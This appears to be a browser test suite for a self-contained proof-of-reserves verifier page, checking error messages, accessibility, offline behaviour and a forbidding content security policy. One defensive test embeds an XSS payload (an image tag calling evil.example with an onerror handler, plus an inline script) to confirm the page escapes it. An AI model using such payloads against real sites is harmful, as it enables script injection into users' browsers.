// The verifier page in a real browser: wrong inputs give sentences (never a blank page or a stack
// trace), controls are labelled and keyboard-usable, the page fits a phone, and it makes no request.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { Browser } from 'playwright-core';
import { buildVerifyPage } from '../../scripts/build-web.mjs';
import { jsonFile, launchBrowser, openPage, repoRoot, textFile, verdictOf } from './browser.js';

let browser: Browser;
let html: string;

beforeAll(async () => {
  html = join(await mkdtemp(join(tmpdir(), 'por-web-')), 'verify.html');
  await buildVerifyPage(html);
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

describe('the built file', () => {
  it('is one self-contained html file: no external script, style, link or image', async () => {
    const text = await readFile(html, 'utf8');
    expect(text).not.toMatch(/<script[^>]+src=/i);
    expect(text).not.toMatch(/<link[^>]+href=/i);
    expect(text).not.toMatch(/<img[^>]+src=/i);
    expect(text).not.toMatch(/@import|url\(\s*['"]?https?:/i);
    // One inline script, one inline style, and a CSP that forbids connections.
    expect(text.match(/<script>/g)?.length).toBe(1);
    expect(text).toMatch(/Content-Security-Policy" content="default-src 'none'; script-src 'sha256-/);
    expect(text).toContain("connect-src 'none'");
  });
});

describe('wrong inputs get a plain message', () => {
  it('a file that is not JSON', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.setInputFiles('#proof-file', textFile('proof.json', '{"format": "por-proof", oops}'));
    const v = await verdictOf(p.page);
    expect(v.state).toBe('error');
    expect(v.text).toContain('“proof.json” is not a valid JSON file (line 1, column');
    expect(await p.page.textContent('#proof-status')).toContain('not a valid JSON file');
    expect(p.errors).toEqual([]);
    expect(p.foreignRequests()).toEqual([]);
  });

  it('an HTML page saved instead of the proof', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.setInputFiles('#proof-file', textFile('proof.json', '<!doctype html><html><body>Download</body></html>'));
    const v = await verdictOf(p.page);
    expect(v.text).toContain('looks like a web page (HTML)');
  });

  it('an empty file', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.setInputFiles('#proof-file', textFile('proof.json', ''));
    expect((await verdictOf(p.page)).text).toContain('“proof.json” is empty');
  });

  it('JSON of an unknown shape names the formats the page knows', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.setInputFiles('#proof-file', jsonFile('thing.json', { hello: 'world' }));
    const v = await verdictOf(p.page);
    expect(v.state).toBe('error');
    expect(v.text).toContain('not a proof this page knows');
    expect(v.text).toContain('OKX Merkle path proofs');
  });

  it('a published report put where the proof goes', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.setInputFiles('#proof-file', jsonFile('report.json', { format: 'por-report', version: 1, merkleRoot: { hash: 'ab' } }));
    const v = await verdictOf(p.page);
    expect(v.text).toContain('is the exchange\'s published report, not your personal proof');
  });

  it('a proof put where the published report goes', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.setInputFiles('#published-file', jsonFile('mine.json', { format: 'por-proof', version: 1 }));
    const v = await verdictOf(p.page);
    expect(v.text).toContain('is a personal proof (por proof), not the exchange\'s published report');
  });

  it('a por proof of a version the page does not read: could not check (as por verify exits 2), not a failed verdict', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.setInputFiles('#proof-file', jsonFile('proof-v2.json', { format: 'por-proof', version: 2, hashFunction: 'sha256' }));
    await p.page.fill('#root-hash', 'ab'.repeat(32));
    await p.page.press('#root-hash', 'Enter');
    const v = await verdictOf(p.page);
    expect(v.state).toBe('error');
    expect(v.text).toContain('Could not check');
    expect(v.text).toContain('is not a por proof this page can check');
    expect(v.text).toContain('got "por-proof", 2, "sha256"');
  });

  it('a root hash that is not 64 hex characters', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.fill('#root-hash', 'abc123');
    await p.page.press('#root-hash', 'Enter');
    const v = await verdictOf(p.page);
    expect(v.text).toContain('64 hexadecimal characters long; this one has 6');
  });

  it('pressing Check with nothing loaded says what to do', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.click('#check');
    expect((await verdictOf(p.page)).text).toContain('Choose your proof file first');
    expect(p.errors).toEqual([]);
  });
});

describe('files dropped on the page', () => {
  const drop = async (page: import('playwright-core').Page, selector: string, name: string, text: string) => {
    const dt = await page.evaluateHandle(
      ({ name, text }) => {
        const d = new DataTransfer();
        d.items.add(new File([text], name, { type: 'application/json' }));
        return d;
      },
      { name, text },
    );
    await page.dispatchEvent(selector, 'drop', { dataTransfer: dt });
  };

  it('a file dropped on the proof zone is read like a picked one', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await drop(p.page, '#proof-drop', 'thing.json', '{"hello": "world"}');
    expect((await verdictOf(p.page)).text).toContain('“thing.json” is JSON, but not a proof this page knows');
  });

  it('a report dropped anywhere else goes to step 2, a proof to step 1', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await drop(p.page, 'h1', 'report.json', JSON.stringify({ format: 'por-report', version: 1, merkleRoot: {} }));
    await p.page.waitForFunction(() => document.getElementById('published-status')?.textContent !== '');
    expect(await p.page.textContent('#published-status')).toBe('Loaded “report.json” (published report).');
    expect(await p.page.textContent('#proof-status')).toBe('');
    expect(p.url).toBe(p.page.url()); // the browser did not navigate to the dropped file
  });
});

describe('a hostile file cannot inject into the page', () => {
  it('markup in a field is shown as text, never run or loaded', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    const evil = '<img src="https://evil.example/x.png" onerror="window.__pwned=1"><script>window.__pwned=2</script>';
    // An OKX path proof whose (unhashed) audit id carries markup: still a valid proof by OKX's rules.
    const okx = JSON.parse(await readFile(resolve(repoRoot, 'test/fixtures/okx/upstream/merkle_proof_file.json'), 'utf8')) as { self: { auditId: string } };
    okx.self.auditId = evil;
    await p.page.setInputFiles('#proof-file', jsonFile('evil.json', okx));
    const v = await verdictOf(p.page);
    expect(v.state).toBe('valid');
    expect(v.text).toContain(evil);
    expect(await p.page.$$eval('#result img, #result script', (els) => els.length)).toBe(0);
    expect(await p.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(p.requests).toEqual([p.url]);
  });
});

describe('usable by everyone', () => {
  it('every control has a label, and Tab reaches them in order', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    const unlabelled = await p.page.$$eval('input, button, textarea, select', (els) =>
      els.filter((e) => (e as HTMLInputElement).labels?.length === 0 && e.tagName !== 'BUTTON').map((e) => e.id),
    );
    expect(unlabelled).toEqual([]);
    const order: string[] = [];
    for (let i = 0; i < 5; i++) {
      await p.page.keyboard.press('Tab');
      order.push(await p.page.evaluate(() => document.activeElement?.id ?? ''));
    }
    expect(order).toEqual(['proof-file', 'published-file', 'root-hash', 'check', 'clear']);
  });

  it('fits a 360 px phone screen without sideways scrolling', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name, { width: 360, height: 740 });
    await p.page.setInputFiles('#proof-file', jsonFile('thing.json', { hello: 'world' }));
    await verdictOf(p.page);
    const widths = await p.page.evaluate(() => ({ doc: document.documentElement.scrollWidth, view: window.innerWidth }));
    expect(widths.doc).toBeLessThanOrEqual(widths.view);
  });
});

describe('no network', () => {
  it('loading and using the page requests nothing but the page itself', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    await p.page.setInputFiles('#proof-file', jsonFile('thing.json', { hello: 'world' }));
    await verdictOf(p.page);
    expect(p.requests).toEqual([p.url]);
  });

  it('the page policy blocks a request even if script tried one', async (ctx) => {
    const p = await openPage(browser, html, ctx.task.name);
    const outcome = await p.page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      let sent = 'sent';
      try {
        await fetch('https://example.com/collect', { method: 'POST', body: 'x' });
      } catch {
        sent = 'blocked';
      }
      await new Promise((r) => setTimeout(r, 50));
      return { sent, violations };
    });
    // Blocked by the page's own policy (connect-src 'none'), before the test's router saw anything.
    expect(outcome).toEqual({ sent: 'blocked', violations: ['connect-src'] });
    expect(p.foreignRequests()).toEqual([]);
  });
});
